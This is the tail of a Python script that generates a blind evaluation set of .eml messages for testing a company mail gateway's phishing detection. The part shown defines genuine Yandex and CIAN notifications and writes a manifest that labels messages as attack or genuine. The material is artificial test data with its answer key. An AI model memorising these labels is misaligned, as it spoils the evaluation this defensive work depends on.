M(kind=B, slug="yandex-id-vhod-s-novogo-ustroystva", lang="ru", cs="utf-8", cte="quoted-printable",
  frm=("Яндекс ID", "hello@id.yandex.ru"), to=[S["ru_head"]],
  dt="2026-11-26 09:14:52", tz="+0300", mx=("forward100a.mail.yandex.net", "forward100a.mail.yandex.net", "178.154.239.79"), client="generic", msgid_domain="id.yandex.ru",
  subject="Вход в аккаунт с нового устройства",
  html=notif("Яндекс ID", "#fc3f1d",
             "<p>Здравствуйте, Дмитрий!</p><p>Выполнен вход в аккаунт <b>example-group-msk</b>.</p>"
             "<p>Когда: 26 ноября 2026 в 09:14 (МСК)<br>Устройство: Windows, Яндекс Браузер<br>Где: Москва, Россия (IP 95.165.28.40)</p>"
             "<p>Если это были вы, ничего делать не нужно.</p>"
             "<p>Если вы не входили в аккаунт, <a href='https://id.yandex.ru/security'>смените пароль</a> и проверьте список устройств в разделе «Безопасность».</p>",
             None, "Это письмо отправлено автоматически. © 2026 ООО «Яндекс»", "ru"),
  what="Genuine Yandex ID new-login notification for the Moscow office's Yandex account (used for ads/maps).",
  why="Genuine: Yandex's own domain and servers, user-initiated login, links only to id.yandex.ru, no deadline.")

M(kind=B, slug="newsletter-cian-win1251", lang="ru", cs="windows-1251", cte="base64",
  frm=("ЦИАН для профессионалов", "news@cian.ru"), to=[S["ru_head"]],
  rp="bounce-pro-77122@news.cian.ru",
  dt="2026-11-10 10:00:03", tz="+0300", mx=("mx7.news.cian.ru", "mx7.news.cian.ru", "185.219.41.7"), client="bulk", msgid_domain="news.cian.ru",
  headers=["List-Unsubscribe: <https://www.cian.ru/unsubscribe/?email=dmitry.volkov%40example.com&list=pro-news>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"],
  subject="Рынок офисов Москвы: итоги октября и прогноз ставок на 2027 год",
  html=newsletter("ЦИАН для профессионалов", "#0468ff", "Выпуск № 45 · 10 ноября 2026",
                  "Добрый день! Главное на рынке коммерческой недвижимости за неделю.",
                  [("Офисы класса А: вакантность опустилась ниже 8%", "Аналитики фиксируют дефицит качественных площадей в центре и рост ставок в Москва-Сити.", "https://www.cian.ru/stati-ofisy-klassa-a-oktyabr-2026/?utm_source=email"),
                   ("Прогноз ставок аренды на 2027 год", "Эксперты ожидают индексацию на уровне 8–10% в большинстве деловых районов.", "https://www.cian.ru/stati-prognoz-stavok-2027/?utm_source=email"),
                   ("Изменения в налогообложении коммерческой недвижимости", "Что нужно знать собственникам о кадастровой стоимости в 2027 году.", "https://www.cian.ru/stati-kadastr-2027/?utm_source=email")],
                  ("ООО «Циан Групп» · Москва<br>Вы получили это письмо, так как подписаны на рассылку для профессионалов.", "Отписаться от рассылки"),
                  "ru", "https://www.cian.ru/unsubscribe/?email=dmitry.volkov%40example.com&list=pro-news"),
  what="Subscribed CIAN (Russian property portal) professional newsletter, windows-1251 HTML in base64.",
  why="Genuine opt-in newsletter from the portal's own mail domain with List-Unsubscribe; relevant market content.")

# ==========================================================================
# writer
# ==========================================================================
LANGNAME = {"de": "German", "en": "English", "it": "Italian", "pl": "Polish", "es": "Spanish", "el": "Greek", "ru": "Russian"}

def structure(m):
    if m.get("html_only"):
        s = "text/html"
    elif m.get("html") is not None or m.get("auto_html"):
        s = "alternative(plain+html)"
    else:
        s = "text/plain"
    if m.get("inline"):
        s = "related(%s + inline PNG)" % s
    if m.get("atts"):
        s = "mixed(%s + %s)" % (s, ", ".join(a[0].rsplit(".", 1)[-1].upper() for a in m["atts"]))
    return s

def md(s):
    return s.replace("|", "\\|").replace("\n", " ")

def main():
    counts = {}
    rows = {"attack": [], "business": []}
    for kind in ("attack", "business"):
        d = os.path.join(ROOT, kind)
        os.makedirs(d, exist_ok=True)
        for f in os.listdir(d):
            if f.endswith(".eml"):
                os.remove(os.path.join(d, f))
    n_by_kind = {"attack": 0, "business": 0}
    for m in MSGS:
        k = m["kind"]
        n_by_kind[k] += 1
        n = n_by_kind[k]
        fn = "%02d-%s-%s.eml" % (n, m["lang"], m["slug"])
        data = build(m, n)
        with open(os.path.join(ROOT, k, fn), "wb") as fh:
            fh.write(data)
        counts.setdefault(k, {}).setdefault(m["lang"], 0)
        counts[k][m["lang"]] += 1
        rows[k].append("| %s | %s | %s / %s | %s | %s | %s | %s |" % (
            fn, LANGNAME[m["lang"]], m["cs"].upper(), m["cte"], structure(m), md(("%s <%s>" % m["frm"]) if m["frm"][0] else m["frm"][1]),
            md(m["what"]), md(m["why"])))
    # ---------------- staff.txt
    with open(os.path.join(ROOT, "staff.txt"), "w", encoding="utf-8") as fh:
        for k, name, a, role, office in STAFF:
            fh.write("%s=%s\n" % (name, a))
    # ---------------- MANIFEST.md
    out = []
    out.append("# Example Group – mail-gateway blind evaluation set\n")
    out.append("Generated deterministically by `gen/build.py` (Python 3 standard library only, no network). "
               "Re-running the script reproduces all files byte for byte.\n")
    out.append("## Company\n")
    out.append("**Example Group** – real-estate investment and property management (office and residential buildings): leasing, rent and "
               "service-charge collection, security deposits, acquisitions with notaries and land registries, facility-management contractors, "
               "building insurers, estate agents, property portals, utilities. About 700 mailboxes on **example.com** and **examplegroup.eu**. "
               "HQ Frankfurt am Main (Germany); offices in Milan, Warsaw, Madrid, Athens, London and Moscow.\n")
    out.append("Mail infrastructure: inbound MX `mx01.example.com` (Postfix); internal mail (Exchange) reaches it via `mail-int01.example.com [10.20.0.25]`. "
               "Own bank account: Deutsche Bank %s. Local entities: Example Group Italia S.r.l. (P.IVA %s), Example Group Polska sp. z o.o. (NIP %s), "
               "Example Group Iberia S.L. (CIF %s), Example Group Hellas (ΑΦΜ %s), Example Group UK Limited (VAT %s), ООО «Экзампл Груп Рус» (ИНН %s); "
               "German USt-IdNr. %s.\n" % (fi(EXG_DE), IT_PIVA_EXG, PL_NIP_EXG, ES_CIF_EXG, GR_AFM_EXG, GB_VAT_EXG, RU_INN_EXG, DE_UST_EXG))
    out.append("The messages carry no Authentication-Results, DKIM-Signature or X-Spam headers: the gateway has to judge from the content, "
               "the trace (Received / Return-Path / Message-ID / mailer) and its own look-ups. All IBANs have valid ISO 13616 mod-97 check digits; "
               "Italian CIN, Spanish DC, Polish bank-sort-code check digit, Russian account control key (BIK-based), Russian INN, Greek ΑΦΜ, Italian P.IVA, "
               "Polish NIP, Spanish CIF and German USt-IdNr. are computed with their national algorithms. Attacker domains, phone numbers and wallets "
               "are fictitious; every 'malware' file is an inert text placeholder; the HTML/SVG lures post/redirect only to fictitious hosts; the ClickFix "
               "command is replaced by a placeholder.\n")
    out.append("## Staff\n")
    out.append("| Name | Address | Role | Office |\n|---|---|---|---|")
    for k, name, a, role, office in STAFF:
        out.append("| %s | %s | %s | %s |" % (name, a, role, office))
    out.append("\n## Business correspondents\n")
    out.append("| Correspondent | Details |\n|---|---|")
    for c, d in CORRESPONDENTS:
        out.append("| %s | %s |" % (md(c), md(d)))
    for k, title in (("attack", "Attack messages (must NOT be delivered plainly)"), ("business", "Genuine business messages (MUST be delivered)")):
        out.append("\n## %s – %d files\n" % (title, len(rows[k])))
        out.append("Per language: " + ", ".join("%s %d" % (LANGNAME[l], counts[k].get(l, 0)) for l in ("de", "en", "it", "pl", "es", "el", "ru")) + "\n")
        out.append("| File | Language | Charset / CTE | Structure | From | What it is | Why attack / why genuine |\n|---|---|---|---|---|---|---|")
        out += rows[k]
    out.append("")
    with open(os.path.join(ROOT, "MANIFEST.md"), "w", encoding="utf-8") as fh:
        fh.write("\n".join(out))
    for k in ("attack", "business"):
        print(k, sum(counts[k].values()), " ".join("%s=%d" % (l, counts[k].get(l, 0)) for l in ("de", "en", "it", "pl", "es", "el", "ru")))

if __name__ == "__main__":
    main()
